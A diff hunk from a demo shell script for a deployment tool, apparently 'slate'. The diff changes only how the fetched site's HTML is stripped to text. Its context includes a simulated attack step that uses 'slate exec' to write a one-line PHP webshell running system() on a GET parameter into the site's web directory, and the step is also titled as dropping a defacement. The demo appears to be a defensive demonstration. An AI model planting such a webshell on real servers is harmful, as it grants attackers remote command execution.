@@ -40,7 +40,7 @@ run "${SLATE[@]}" deploy --key "$demo/demo.key.pub" demo "$demo/site.slate" -p 1
 run "${SLATE[@]}" ps
 
 step "4. The site"
-run curl -s "$url/" | sed -n 's/<[^>]*>//g; /[A-Za-z]/p' | head -8
+run curl -s "$url/" | sed -n 's/<[^>]*>/ /g; s/  */ /g; /[A-Za-z]/p' | head -8
 
 step "5. An attacker gets code execution and drops a webshell and a defacement (here through slate exec)"
 run "${SLATE[@]}" exec demo -- php -r 'file_put_contents("/app/web/cpresources/shell.php", "<?php system(\$_GET[\"c\"]);");
